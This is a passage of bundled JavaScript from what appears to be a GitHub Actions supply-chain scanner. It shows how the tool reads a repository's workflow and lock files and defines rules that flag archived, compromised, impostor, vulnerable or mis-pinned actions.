var external_node_buffer_ = __webpack_require__(4573);
;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/repository/read.js





/** Reads a text file of at most `MAX_FILE_BYTES`. Text is UTF-8, as GitHub reads it. */
function readSource(absolute, path) {
    try {
        const stats = (0,external_node_fs_.statSync)(absolute);
        // A pipe or a device may never end.
        if (!stats.isFile())
            return refused("it is no regular file");
        const { size } = stats;
        if (size > yaml/* MAX_FILE_BYTES */.gZ)
            return refused(`it has ${size} bytes, more than the ${yaml/* MAX_FILE_BYTES */.gZ} that are read`);
        const text = (0,external_node_fs_.readFileSync)(absolute, "utf8");
        // Bytes that are no UTF-8 were read as U+FFFD; the character itself is allowed, so only then the bytes are asked.
        const reason = text.includes("\ufffd") ? encodingProblem((0,external_node_fs_.readFileSync)(absolute)) : null;
        return reason === null ? { ok: true, file: new lib/* SourceFile */.sC(path, text) } : refused(reason);
    }
    catch (error) {
        return refused((0,action_kit_lib/* explain */.WE)(error));
    }
}
function refused(reason) {
    return { ok: false, reason };
}
function encodingProblem(bytes) {
    const mark = bytes.subarray(0, 2).toString("hex");
    if (mark === "fffe" || mark === "feff")
        return "it is UTF-16; GitHub reads UTF-8: save it as UTF-8";
    return (0,external_node_buffer_.isUtf8)(bytes) ? null : "it is not valid UTF-8: save it as UTF-8";
}

// EXTERNAL MODULE: ./packages/workflow-analysis/lib/knowledge/facts.js + 1 modules
var facts = __webpack_require__(7949);
;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/repository/repository.js








/** The files of one repository, read and modelled. */
class Repository {
    workflows = [];
    actions = [];
    dependabot = [];
    renovate = [];
    /** `.github/workflows/actions.lock`; null where there is none, and where it can't be relied upon. */
    lock = null;
    dockerfiles = [];
    unreadable = [];
    /** Every YAML and JSON5 file that was read. */
    documents = [];
    /** Everything that was found, whether it is read here or only looked up by name. */
    files = [];
    /** What settings pass over: it is there, and nothing more is known. */
    ignored = new Set();
    sources = new Map();
    /** What was found out about the repositories that it uses; null where nothing was asked. */
    upstream = null;
    /** What is known of the world. */
    facts = facts/* BUILT_IN_FACTS */.lH;
    #callers;
    #lockedFiles;
    /** The jobs of this repository that call one of its reusable workflows. */
    callersOf(workflow) {
        this.#callers ??= this.findCallers();
        return this.#callers.get(workflow) ?? [];
    }
    findCallers() {
        const callers = new Map();
        for (const job of this.workflows.flatMap(({ jobs }) => jobs)) {
            const called = job.kind === "reusable" && this.resolve(job.uses);
            if (called)
                callers.set(called, [...(callers.get(called) ?? []), job]);
        }
        return callers;
    }
    /** Every `uses:` of workflows and composite actions. */
    uses() {
        return [...this.workflows, ...this.actions].flatMap(usesOf);
    }
    /** Is the file there, whether it could be read or not? */
    has(path) {
        return this.files.some((file) => file.path === path) || this.ignored.has(path);
    }
    /**
     * Does GitHub take from `actions.lock` what this `uses:` of another repository comes to? A run is refused when the two
     * disagree, so no fix may change it.
     */
    isLocked(uses) {
        // What a lock says that can't be understood, nobody knows.
        if (!this.lock)
            return this.files.some(({ kind }) => kind === "actions-lock");
        this.#lockedFiles ??= this.findLockedFiles(this.lock);
        return this.#lockedFiles.has(uses.scalar.file.path);
    }
    /** The onboarded workflows, and the actions that they reach by `$/`: `./` is never followed. */
    findLockedFiles(lock) {
        const locked = new Set(this.workflows.filter(({ path }) => lock.workflows.has(path)));
        for (const unit of locked) {
            for (const { target } of usesOf(unit)) {
                const action = target.kind === "local" && target.base === "repository" ? this.action(target.path) : undefined;
                if (action)
                    locked.add(action);
            }
        }
        return new Set([...locked].map(({ path }) => path));
    }
    workflow(path) {
        return this.workflows.find((workflow) => workflow.path === path);
    }
    /** The action whose `action.yml` stands in that folder. */
    action(folder) {
        return this.actions.find((action) => action.folder === folder);
    }
    /** The action or reusable workflow of this repository that a `./` or `$/` reference names. */
    resolve(uses) {
        const { target } = uses;
        if (target.kind !== "local")
            return undefined;
        const path = (0,model/* normalizePath */.Fd)(target.path);
        return this.workflow(path) ?? this.action(path);
    }
    /**
     * The local reusable workflows and actions that a workflow or action reaches, itself first, each once: a cycle ends
     * where it closes.
     */
    reachableFrom(start) {
        const reached = new Set([start]);
        for (const unit of reached) {
            for (const uses of usesOf(unit)) {
                const target = this.resolve(uses);
                if (target)
                    reached.add(target);
            }
        }
        return reached;
    }
}
/** Every `uses:` of a workflow or action. */
function usesOf(unit) {
    if (unit.kind === "composite")
        return unit.steps.flatMap((step) => step.uses ?? []);
    if (unit.kind !== "workflow")
        return [];
    return unit.jobs.flatMap((job) => job.kind === "reusable" ? [job.uses] : job.steps.flatMap((step) => step.uses ?? []));
}
/** Reads all of a repository; what can't be read is in `unreadable`. */
async function readRepository(root, options = {}) {
    const { isIgnored = () => false, edited, only = null } = options;
    const repository = new Repository();
    // A file that belongs to no repository is read alone: its folder may be somebody's home.
    const { files, unreachable } = only === null || isRoot(root) ? discover(root) : { files: [], unreachable: [] };
    for (const { path, reason } of unreachable) {
        repository.unreadable.push(repository_unreadable(new lib/* SourceFile */.sC(path, ""), reason));
    }
    for (const found of files) {
        if (isIgnored(found.path)) {
            repository.ignored.add(found.path);
            continue;
        }
        repository.files.push(found);
        if (isModelled(found.kind))
            await readInto(repository, (0,external_node_path_.join)(root, found.path), found.path, found.kind, edited);
    }
    const known = new Set(files.flatMap(({ path, kind }) => (isModelled(kind) ? [path] : [])));
    for (const path of only ?? []) {
        if (!known.has(path))
            await readInto(repository, (0,external_node_path_.join)(root, path), path, null, edited);
    }
    return repository;
}
const MODELLED = new Set(["workflow", "action", "actions-lock", "dependabot", "renovate", "dockerfile"]);
function isModelled(kind) {
    return MODELLED.has(kind);
}
async function readInto(repository, absolute, path, kind, edited) {
    const text = edited?.get(path);
    const result = text === undefined ? readSource(absolute, path) : { ok: true, file: new lib/* SourceFile */.sC(path, text) };
    if (!result.ok) {
        repository.unreadable.push(repository_unreadable(new lib/* SourceFile */.sC(path, ""), result.reason));
        return;
    }
    await addSource(repository, result.file, kind);
}
/** Models a text that has been read; `kind` null lets its content tell what it is. */
async function addSource(repository, file, kind) {
    repository.sources.set(file.path, file);
    if (kind === "dockerfile" || (kind === null && repository_isDockerfile(file))) {
        await addDockerfile(repository, file);
        return;
    }
    const document = await parseDocument(file, kind);
    repository.documents.push(document);
    for (const problem of document.problems) {
        repository.unreadable.push({ file, start: problem.start, end: problem.end, reason: problem.message });
    }
    addModel(repository, document, kind);
}
/** Is it a Dockerfile? Its name tells, or, where that says nothing, how it begins. */
function repository_isDockerfile({ path, text }) {
    const kind = kindOf(path);
    return kind === undefined
        ? /^\ufeff?(?:[ \t]*(?:#.*)?\r?\n)*[ \t]*(?:FROM|ARG)[ \t]+\S/i.test(text)
        : kind === "dockerfile";
}
/** The nodes of a file that is YAML, or JSON5 where its kind has it so. */
async function parseDocument(file, kind) {
    return kind === "renovate" ? (await Promise.all(/* import() */[__webpack_require__.e(162), __webpack_require__.e(169)]).then(__webpack_require__.bind(__webpack_require__, 7169))).parseJson5(file) : (0,yaml/* parseYaml */.hN)(file);
}
async function addDockerfile(repository, file) {
    const { readDockerfile } = await Promise.all(/* import() */[__webpack_require__.e(839), __webpack_require__.e(658)]).then(__webpack_require__.bind(__webpack_require__, 5658));
    const result = readDockerfile(file);
    if (result.ok)
        repository.dockerfiles.push(result.dockerfile);
    else
        repository.unreadable.push({ file, start: result.start, end: result.end, reason: result.reason });
}
function addModel(repository, document, kind) {
    const { root, file } = document;
    if (root?.kind !== "map") {
        if (document.problems.length > 0)
            return;
        const reason = root ? "a mapping is expected at the top" : "it holds nothing";
        repository.unreadable.push({ file, start: root?.start ?? 0, end: root?.start ?? 0, reason });
        return;
    }
    const what = kind ?? kindByContent(root);
    if (what === null) {
        const reason = "it is no workflow, action, Dockerfile or Dependabot file";
        repository.unreadable.push({ file, start: root.start, end: root.start, reason });
        return;
    }
    if (what === "action")
        repository.actions.push((0,model/* actionOf */.qj)(document, root));
    else if (what === "actions-lock")
        addLock(repository, document, root);
    else if (what === "dependabot")
        repository.dependabot.push(new model/* Dependabot */.$q(document, root));
    else if (what === "renovate")
        repository.renovate.push(new model/* Renovate */.Tz(document, root));
    else
        repository.workflows.push(new model/* Workflow */.Wu(document, root));
}
function addLock(repository, document, root) {
    // GitHub passes over a lock that it can't read, so what can be read of a broken one pins nothing.
    // See github/gh-actions-lock, issue 125.
    if (document.problems.length > 0)
        return;
    const refusal = (0,model/* lockRefusal */.a7)(root);
    if (!refusal) {
        repository.lock = new model/* ActionsLock */.$I(document, root);
        return;
    }
    const { start, end } = refusal.node;
    repository.unreadable.push({ file: document.file, start, end, reason: refusal.message });
}
/** What a file is that stands where its place doesn't tell. */
function kindByContent(root) {
    if (root.entry("runs"))
        return "action";
    if (root.entry("updates"))
        return "dependabot";
    return root.entry("jobs") || root.entry("on") ? "workflow" : null;
}
function repository_unreadable(file, reason) {
    return { file, start: 0, end: 0, reason };
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/repository/index.js





;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/rules/pinning/actions-lock-mismatch.js




const RELOCK = "relock with `gh actions-lock`";
/* harmony default export */ const actions_lock_mismatch = (defineRule({
    id: "actions-lock-mismatch",
    category: "pinning",
    severity: "high",
    summary: "`actions.lock` and the workflows disagree",
    risk: "GitHub runs the commits that `.github/workflows/actions.lock` names, for the workflows that it lists. Where list, entries and `uses:` disagree, the run is refused, or the lock is passed over and tags decide again what runs.",
    mend: "Run `gh actions-lock` and commit what it writes; review new commits as you would review code. The file isn't meant to be edited by hand.",
    sources: [
        "https://docs.github.com/actions/concepts/security/workflow-dependency-lockfiles",
        "https://github.com/github/actions-lockfile",
    ],
    examples: { flagged: [], silent: [] },
    workflow(workflow, report) {
        const { lock } = report.repository;
        const locked = lock?.workflows.get(workflow.path);
        if (!lock || !locked)
            return;
        for (const uses of usesOf(workflow)) {
            const { target } = uses;
            if (target.kind !== "repository")
                continue;
            const name = locked.nameOf(target);
            if (name)
                judgeEntry(uses, name, lock, report);
            else
                sayUnlisted(uses, target, locked, report);
        }
    },
    actionsLock(lock, report) {
        const { repository } = report;
        const listed = [...lock.workflows.values()].filter((locked) => sayIfGone(locked, report));
        // What a workflow itself uses was told there.
        const told = new Set(listed.flatMap((locked) => locked.covered(usesIn(repository.workflow(locked.path)))));
        for (const locked of listed)
            judgeList(locked, lock, told, report);
        for (const id of lock.reachableFrom(listed.flatMap(({ ids }) => ids))) {
            const entry = lock.dependencies.get(id);
            if (entry)
                judgeReached(entry, lock, told.has(id), report);
        }
    },
}));
/** Is what the lock knows of an action that a workflow uses as it has to be? */
function judgeEntry(uses, { id, node }, lock, report) {
    const entry = id === null ? undefined : lock.dependencies.get(id);
    const text = uses.text.trim();
    if (!entry) {
        const related = [{ place: node, message: "it is listed here" }];
        report(uses.scalar, `\`actions.lock\` lists \`${text}\` and has no entry for it: ${RELOCK}`, { related });
    }
    else if (entry.flaw) {
        const related = [{ place: entry.flaw.node, message: "its entry is here" }];
        report(uses.scalar, `The entry of \`${text}\` in \`actions.lock\` ${entry.flaw.message}: ${RELOCK}`, { related });
    }
}
function sayUnlisted(uses, target, { key }, report) {
    const message = `\`${uses.text.trim()}\` is missing from this workflow's list in \`actions.lock\`: ${RELOCK}`;
    const related = [{ place: key, message: "the list is here" }];
    // It can't run anything else all the same, and `gh actions-lock` itself only warns of it.
    report(uses.scalar, message, (0,model/* isCommit */.WM)(target.ref) ? { related, severity: "low" } : { related });
}
function sayIfGone({ key, path }, report) {
    const isThere = report.repository.has(path);
    if (!isThere)
        report(key, `There is no workflow \`${path}\`: ${RELOCK}`, { severity: "low" });
    return isThere;
}
function judgeList(locked, lock, told, report) {
    const used = usedNames(locked, lock, report.repository);
    for (const { id, node } of locked.names) {
        if (id === null)
            report(node, `This names no action at a ref: ${RELOCK}`);
        else if (!lock.dependencies.has(id) && !told.has(id))
            report(node, `\`${id}\` has no entry: ${RELOCK}`);
        else if (used && !used.has(id)) {
            report(node, `\`${locked.path}\` doesn't use \`${id}\`: ${RELOCK}`, { severity: "low" });
        }
    }
}
/**
 * What of a list is used: by the workflow, by the local actions that it runs, and, as older locks have it, by what those pull
 * in. Null for a workflow that can't be read, or not in full.
 */
function usedNames(locked, lock, repository) {
    const workflow = repository.workflow(locked.path);
    if (!workflow || workflow.document.problems.length > 0)
        return null;
    const reached = [...repository.reachableFrom(workflow)].flatMap(usesOf);
    return lock.reachableFrom(locked.covered(reached));
}
/** An entry that a listed workflow needs, directly or through others. */
function judgeReached(entry, lock, isTold, report) {
    const { flaw } = entry;
    if (!flaw)
        judgeByUpstream(entry, report);
    if (flaw && !isTold)
        report(flaw.node, `The entry of \`${entry.key.value}\` ${flaw.message}: ${RELOCK}`);
    for (const { id, node } of entry.uses) {
        if (id === null)
            report(node, `This names no action at a ref: ${RELOCK}`);
        else if (!lock.dependencies.has(id)) {
            report(node, `\`${entry.key.value}\` pulls in \`${id}\`, which has no entry: ${RELOCK}`);
        }
    }
}
/** Does the action's repository say otherwise? A short tag such as `v1` may have moved on: that is what a lock is for. */
function judgeByUpstream(entry, report) {
    const { upstream } = report.repository;
    const { target } = entry.name;
    if (!upstream || !target || entry.commit === null)
        return;
    const name = `\`${target.owner}/${target.repo}\``;
    const about = upstream.aboutOf(target);
    for (const [field, id] of [
        ["repo_id", about?.id],
        ["owner_id", about?.ownerId],
    ]) {
        if (id === undefined || id === entry.idOf(field))
            continue;
        report(entry.nodeOf(field), `${name} has another \`${field}\` today, ${id}: it may be somebody else's. ${RELOCK}`);
    }
    const today = upstream.refsOf(target)?.tags.get(target.ref);
    const isExact = parseVersionTag(target.ref)?.numbers.length === 3;
    if (upstream.reachabilityOf({ ...target, ref: entry.commit }) === "unreachable") {
        report(entry.nodeOf("commit"), `No branch or tag of ${name} leads to this commit: ${RELOCK}`);
    }
    else if (isExact && today !== undefined && today !== entry.commit) {
        report(entry.nodeOf("commit"), `\`${target.ref}\` of ${name} is another commit today, \`${today}\`: ${RELOCK}`);
    }
}
function usesIn(workflow) {
    return workflow ? usesOf(workflow) : [];
}

// EXTERNAL MODULE: ./packages/workflow-analysis/lib/knowledge/lists/archived-actions.js
var archived_actions = __webpack_require__(4153);
;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/pinning/witness.js


/** What is known of a reference, for who wants to look for themselves. */
function usesWitness(uses, target, upstream) {
    const { owner, repo, path, ref } = target;
    const comment = versionComment(uses.scalar)?.version ?? null;
    const resolution = (0,model/* isCommit */.WM)(ref) ? undefined : upstream?.resolve(target);
    const found = resolution?.kind === "commit" ? resolution : undefined;
    return {
        owner,
        repo,
        path,
        ref,
        commit: (0,model/* isCommit */.WM)(ref) ? ref.toLowerCase() : (found?.commit ?? null),
        tag: found?.name ?? upstream?.versionOf(target, comment ?? undefined)?.tag ?? null,
        comment,
        source: found?.source ?? ((0,model/* isCommit */.WM)(ref) && upstream?.refsOf(target) ? "refs" : null),
    };
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/rules/pinning/archived-uses.js




/* harmony default export */ const archived_uses = (defineRule({
    id: "archived-uses",
    category: "pinning",
    severity: "medium",
    isZizmor: true,
    summary: "An action's repository is archived",
    risk: "Nobody mends it any more: holes stay open, and what it runs on is taken away one day.",
    mend: "Take an action that is kept up, or do the same with a script.",
    sources: ["https://docs.zizmor.sh/audits/#archived-uses"],
    examples: { flagged: [], silent: [] },
    uses({ uses }, report) {
        const { target } = uses;
        const { upstream, facts } = report.repository;
        if (target.kind !== "repository" || !isArchived(target, upstream, facts))
            return;
        const message = `\`${target.owner}/${target.repo}\` is archived`;
        report(uses.scalar, message, { witness: usesWitness(uses, target, upstream) });
    },
}));
/** What the platform says counts more than what was known of it once. */
function isArchived(target, upstream, facts) {
    const known = facts.by(archived_actions/* default */.A, "repository").has(keyOfSlug(target));
    return upstream?.aboutOf(target)?.isArchived ?? known;
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/fixes/pin.js


/** The comment where there is none yet, and nobody asked for another. */
const DEFAULT_COMMENT = "{tag}";
/**
 * Pins a `uses:` to a commit, and says behind it what that is. Only the ref and the comment change; where no comment can
 * stand, none is written. Null for what `actions.lock` speaks for, and where the ref is written with escapes, so that its
 * place in the file isn't its text. Null, too, where an anchor gives the text to something that is no `uses:`.
 *
 * @param template the text behind `# `, with `{tag}` for the name; a comment's own style counts more
 */
function pinFix({ repository, uses, target }, { commit, name, former }, description, template = DEFAULT_COMMENT) {
    if (repository.isLocked(uses) || isUsedOtherwise(uses, repository))
        return null;
    const ref = uses.scalar.spanOf(target.refSpan.start, target.refSpan.end);
    if (uses.scalar.file.text.slice(ref.start, ref.end) !== target.ref)
        return null;
    const comment = commentEdit(uses, name, former, template);
    const pin = target.ref.toLowerCase() === commit ? [] : [{ ...ref, text: commit }];
    const edits = [...pin, ...(comment ? [comment] : [])];
    return edits.length === 0 ? null : { description, safe: true, edits };
}
/** Does an anchor give the text to more places than those that are a `uses:`? */
function isUsedOtherwise({ scalar }, repository) {
    if (!(0,yaml/* isAnchored */.rf)(scalar))
        return false;
    return repository.uses().filter((other) => other.scalar === scalar).length < 1 + (0,yaml/* aliasCount */.Gh)(scalar);
}
function commentEdit({ scalar }, name, former, template) {
    const word = commentWord(scalar);
    const written = versionComment(scalar) ?? (word && (word.version === name || word.version === former) ? word : null);
    if (written)
        return written.version === name ? null : { ...written.span, text: name };
    const rest = restOfLine(scalar);
    if (!rest)
        return null;
    const text = template.replaceAll("{tag}", () => name);
    // What the author wrote stays, behind the version.
    const at = rest.comment?.start ?? rest.start;
    return { start: at, end: at, text: rest.comment ? `# ${text} ` : ` # ${text}` };
}

// EXTERNAL MODULE: ./packages/workflow-analysis/lib/knowledge/lists/compromised-actions.js
var compromised_actions = __webpack_require__(6121);
;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/rules/pinning/compromised-action.js







/* harmony default export */ const compromised_action = (defineRule({
    id: "compromised-action",
    category: "pinning",
    severity: "critical",
    fixes: "unsafe",
    summary: "An action at a commit or tag that carried malware",
    risk: "What ran with it is to be taken for stolen: the secrets of the job, its token, what it built.",
    mend: "Take a version that was never touched, change the secrets of each job that ran in those days, and look at what they published.",
    sources: [
        "https://github.com/advisories/GHSA-mrrh-fwg8-r2c3",
        "https://github.com/advisories/GHSA-qmg3-hpqr-gqvc",
        "https://github.com/advisories/GHSA-69fq-xp46-6x23",
    ],
    examples: { flagged: [], silent: [] },
    uses({ uses }, report) {
        const { target } = uses;
        if (target.kind !== "repository")
            return;
        const { upstream, facts } = report.repository;
        const incident = incidentOf(target, facts);
        if (!incident) {
            judgeBelow(uses, target, report);
            return;
        }
        const days = incident.from === incident.to ? `on ${incident.from}` : `from ${incident.from} to ${incident.to}`;
        const what = (0,model/* isCommit */.WM)(target.ref) ? "is malware" : `led to malware ${days}`;
        const name = `\`${target.owner}/${target.repo}@${target.ref}\``;
        report(uses.scalar, `${name} ${what} (${incident.advisory})`, {
            fix: toClean({ repository: report.repository, uses, target }, incident, upstream),
            witness: {
                ...usesWitness(uses, target, upstream),
                advisory: incident.advisory,
                from: incident.from,
                to: incident.to,
            },
        });
    },
}));
/** What it pulls in may be what carried malware. */
function judgeBelow(uses, target, report) {
    const { upstream, facts } = report.repository;
    for (const { target: below, through } of upstream?.reachedFrom(target) ?? []) {
        const incident = incidentOf(below, facts);
        if (!incident)
            continue;
        report(uses.scalar, `It pulls in \`${through.at(-1)}\`, which is malware (${incident.advisory})`, {
            witness: { ...usesWitness(uses, target, upstream), advisory: incident.advisory, chain: [...through] },
        });
        return;
    }
}
function incidentOf(target, facts) {
    return facts
        .by(compromised_actions/* default */.A, "repository")
        .get(keyOfSlug(target))
        ?.find((incident) => (0,model/* isCommit */.WM)(target.ref)
        ? incident.commits.some((commit) => commit.toLowerCase() === target.ref.toLowerCase())
        : wasMoved(target.ref, incident));
}
function wasMoved(ref, { moved, tags, through }) {
    const version = parseVersionTag(ref);
    if (!version)
        return false;
    if (moved === "all")
        return true;
    if (moved === "tags")
        return tags.includes(ref);
    const last = parseVersionTag(through)?.numbers ?? [];
    // `v45` stands for all of 45.
    for (let i = 0; i < Math.min(last.length, version.numbers.length); i++) {
        const difference = version.numbers[i] - last[i];
        if (difference !== 0)
            return difference < 0;
    }
    return true;
}
function toClean(place, { fixedIn }, upstream) {
    const tag = fixedIn === "" ? undefined : upstream?.tagOfVersion(place.target, fixedIn);
    const fix = tag && pinFix(place, tag, `pin it to \`${tag.name}\`, which was never touched`);
    return fix ? { ...fix, safe: false } : null;
}

// EXTERNAL MODULE: ./packages/workflow-analysis/lib/config/globs.js
var config_globs = __webpack_require__(6732);
;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/pinning/names.js


/**
 * Does a reference match one of the globs of `owner/repo[/path]`, or of `docker://image`? Names have no case. A glob of a
 * repository means all in it, too, and `*` everything.
 */
function usesMatcher(globs) {
    const matchers = globs.map((glob) => (0,config_globs/* globMatcher */.f)(glob === "*" ? "**" : glob.toLowerCase()));
    return (target) => names_namesOf(target).some((name) => matchers.some((matches) => matches(name)));
}
/** Does a reference name something of elsewhere? */
function isRemote(target) {
    return names_namesOf(target).length > 0;
}
function names_namesOf(target) {
    if (target.kind === "docker")
        return [`docker://${target.image.name}`.toLowerCase()];
    if (target.kind !== "repository")
        return [];
    const slug = keyOfSlug(target);
    return target.path === "" ? [slug] : [slug, `${slug}/${target.path.toLowerCase()}`];
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/rules/pinning/forbidden-uses.js



/* harmony default export */ const forbidden_uses = (defineRule({
    id: "forbidden-uses",
    category: "pinning",
    severity: "high",
    isZizmor: true,
    summary: "An action or image that the settings forbid",
    risk: "Somebody decided that this is not to be used here, or that nothing is but what is named.",
    mend: "Use another one, or have it allowed under `rules.forbidden-uses` in `.github/trustchain.yml`.",
    sources: ["https://docs.zizmor.sh/audits/#forbidden-uses"],
    options: {
        allow: (0,config_options/* textsOption */.YM)("Globs of `owner/repo[/path]` or `docker://image`: nothing else may be used"),
        deny: (0,config_options/* textsOption */.YM)("Such globs: these may not be used, even where `allow` names them"),
    },
    examples: { flagged: [], silent: [] },
    uses({ uses }, report) {
        const { allow, deny } = report.options;
        const { target } = uses;
        if (!isRemote(target))
            return;
        const message = usesMatcher(deny)(target)
            ? `\`${uses.text}\` is denied`
            : allow.length > 0 && !usesMatcher(allow)(target)
                ? `\`${uses.text}\` is not among what is allowed`
                : null;
        if (message !== null)
            report(uses.scalar, message);
    },
}));

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/rules/pinning/impostor-commit.js



/* harmony default export */ const impostor_commit = (defineRule({
    id: "impostor-commit",
    category: "pinning",
    severity: "high",
    isZizmor: true,
    summary: "A pinned commit is not one of the repository's",
    risk: "GitHub answers for every commit of a repository's forks under the repository's own name. Whoever has a fork can have a commit of theirs look like one of the action's.",
    mend: "Pin to a commit that a tag or branch of the repository leads to, and look at what ran until now.",
    sources: ["https://www.chainguard.dev/unchained/what-the-fork-imposter-commits-in-github-actions-and-ci-cd"],
    examples: { flagged: [], silent: [] },
    uses({ uses }, report) {
        const { target } = uses;
        const { upstream } = report.repository;
        if (target.kind !== "repository" || !upstream || !(0,model/* isCommit */.WM)(target.ref))
            return;
        const reachability = upstream.reachabilityOf(target);
        const name = `\`${target.owner}/${target.repo}\``;
        const commit = `\`${target.ref.slice(0, 12)}\``;
        const witness = usesWitness(uses, target, upstream);
        if (reachability === "unreachable") {
            report(uses.scalar, `No branch or tag of ${name} leads to ${commit}`, { witness });
        }
        else if (reachability === "unknown") {
            const message = `Neither the default branch of ${name}, nor what the comment names, nor its newest refs lead to ${commit}; older ones were not asked`;
            report(uses.scalar, message, { confidence: "low", witness });
        }
    },
}));

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/rules/pinning/known-vulnerable-actions.js






/* harmony default export */ const known_vulnerable_actions = (defineRule({
    id: "known-vulnerable-actions",
    category: "pinning",
    severity: "high",
    isZizmor: true,
    fixes: "safe",
    summary: "An action has a hole that is published",
    risk: "How to use it is known to everyone. The severity is the advisory's.",
    mend: "Take the version that mends it.",
    sources: ["https://docs.github.com/rest/security-advisories/global-advisories"],
    options: { allow: (0,config_options/* textsOption */.YM)("Ids of advisories that are known and accepted: `GHSA-…`") },
    examples: { flagged: [], silent: [] },
    uses({ uses }, report) {
        const { target } = uses;
        const { upstream } = report.repository;
        if (target.kind !== "repository" || !upstream)
            return;
        const version = upstream.versionOf(target, upstream.nameOn(uses, target));
        if (!version)
            return;
        const advisories = upstream
            .advisoriesOn(target, version)
            .filter(({ id }) => !report.options.allow.includes(id))
            .toSorted((a, b) => (0,lib/* compareSeverity */.zK)(a.severity, b.severity));
        const [worst] = advisories;
        if (!worst)
            return;
        const name = `\`${target.owner}/${target.repo}\` ${version.tag}`;
        report(uses.scalar, `${name} has ${advisories.length === 1 ? "a known hole" : `${advisories.length} known holes`}: ${told(advisories)}`, {
            severity: worst.severity,
            fix: toFixed({ repository: report.repository, uses, target }, advisories, upstream),
            witness: { ...usesWitness(uses, target, upstream), advisories: advisories.map(({ id }) => id) },
        });
    },
}));
function told(advisories) {
    return advisories.map(({ id, summary }) => `${id} (${summary.slice(0, 120)})`).join(", ");
}
/** To the lowest version that mends all of them. */
function toFixed(place, advisories, upstream) {
    const versions = advisories.map(({ fixedIn }) => (fixedIn === null ? undefined : parseVersionTag(fixedIn)));
    if (versions.some((version) => !version))
        return null;
    const highest = versions
        .flatMap((version) => version ?? [])
        .sort(compareVersions)
        .at(-1);
    const tag = highest && upstream.tagOfVersion(place.target, highest.tag);
    return tag ? pinFix(place, tag, `pin it to \`${tag.name}\`, which mends it`) : null;
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/rules/pinning/ref-confusion.js



/* harmony default export */ const ref_confusion = (defineRule({
    id: "ref-confusion",
    category: "pinning",
    severity: "medium",
    isZizmor: true,
    summary: "A ref is the name of a branch and of a tag",
    risk: "Which of the two runs depends on who resolves the name. Whoever may push a branch can put other code under the name of a release.",
    mend: "Pin to the commit that is meant; ask the action's owner to remove the branch.",
    sources: ["https://www.chainguard.dev/unchained/what-the-fork-imposter-commits-in-github-actions-and-ci-cd"],
    examples: { flagged: [], silent: [] },
    uses({ uses }, report) {
        const { target } = uses;
        const { upstream } = report.repository;
        const refs = target.kind === "repository" ? upstream?.refsOf(target) : null;
        if (target.kind !== "repository" || !refs)
            return;
        const [isTag, isBranch] = [refs.tags.has(target.ref), refs.branches.has(target.ref)];
        const name = `\`${target.owner}/${target.repo}\``;
        const message = isTag && isBranch
            ? `\`${target.ref}\` is a branch and a tag of ${name}`
            : (0,model/* isCommit */.WM)(target.ref) && (isTag || isBranch)
                ? `\`${target.ref}\` looks like a commit, and is the name of a ${isTag ? "tag" : "branch"} of ${name}`
                : null;
        if (message !== null)
            report(uses.scalar, message, { witness: usesWitness(uses, target, upstream) });
    },
}));

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/rules/pinning/ref-version-mismatch.js





/* harmony default export */ const ref_version_mismatch = (defineRule({
    id: "ref-version-mismatch",
    category: "pinning",
    severity: "medium",
    isZizmor: true,
    fixes: "safe",
    summary: "The comment behind a pinned commit names another version",
    risk: "Reviewers trust the comment. Under the name of a good release another commit runs, an old one with known holes, or one that was slipped in.",
    mend: "Find out which of the two is meant. `trustchain pin-actions-to-sha --mode fix` writes the version that the commit is.",
    sources: ["https://docs.zizmor.sh/audits/#ref-version-mismatch"],
    examples: { flagged: [], silent: [] },
    uses({ uses }, report) {
        const { target } = uses;
        const { upstream } = report.repository;
        const refs = target.kind === "repository" && (0,model/* isCommit */.WM)(target.ref) ? upstream?.refsOf(target) : null;
        if (target.kind !== "repository" || !upstream || !refs)
            return;
        // Of a commit that isn't the repository's the stronger rule speaks.
        if (upstream.reachabilityOf(target) === "unreachable")
            return;
        const object = refs.tagObjects.get(target.ref.toLowerCase());
        const name = upstream.nameOn(uses, target);
        if (object !== undefined) {
            tell(uses, target, "is the id of a tag object, not of the commit that the tag names", report);
        }
        else if (name === undefined) {
            const details = { severity: "low", persona: "pedantic" };
            tell(uses, target, "has no comment that says which version it is", report, details);
        }
        else if (!refs.branches.has(name) && !isVersion(name, upstream.tagsOn(target) ?? [])) {
            const known = [...refs.tags.keys()].some((tag) => isSame(tag, name));
            const details = known ? {} : { confidence: "medium" };
            tell(uses, target, known ? `is not \`${name}\`` : `is called \`${name}\`, which is no tag there`, report, details);
        }
    },
}));
function tell(uses, target, what, report, details = {}) {
    const { repository } = report;
    const { upstream } = repository;
    const message = `\`${target.ref.slice(0, 12)}\` of \`${target.owner}/${target.repo}\` ${what}`;
    const fix = upstream && commentFix({ repository, uses, target }, upstream);
    report(uses.scalar, message, { ...details, fix, witness: usesWitness(uses, target, upstream) });
}
/** Writes what the commit is; which commit runs stays. */
function commentFix(place, upstream) {
    const { target } = place;
    const refs = upstream.refsOf(target);
    const commit = refs?.tagObjects.get(target.ref.toLowerCase()) ?? target.ref.toLowerCase();
    const version = upstream.versionOf({ ...target, ref: commit }, undefined);
    return version ? pinFix(place, { commit, name: version.tag }, "say which version the commit is") : null;
}
/** Does one of a commit's tags have that name, or a more precise one of the same version? */
function isVersion(name, tags) {
    const called = parseVersionTag(name);
    return tags.some((tag) => {
        const version = parseVersionTag(tag);
        return isSame(tag, name) || (called && version && standsFor(called, version));
    });
}
/** Some leave the `v` out. */
function isSame(tag, name) {
    return tag === name || tag === `v${name}`;
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/rules/pinning/renamed-repository.js


/* harmony default export */ const renamed_repository = (defineRule({
    id: "renamed-repository",
    category: "pinning",
    severity: "low",
    summary: "An action's repository has another name today",
    risk: "The old name leads on only as long as nobody takes it. Who registers it has code in your job.",
    mend: "Write the new name.",
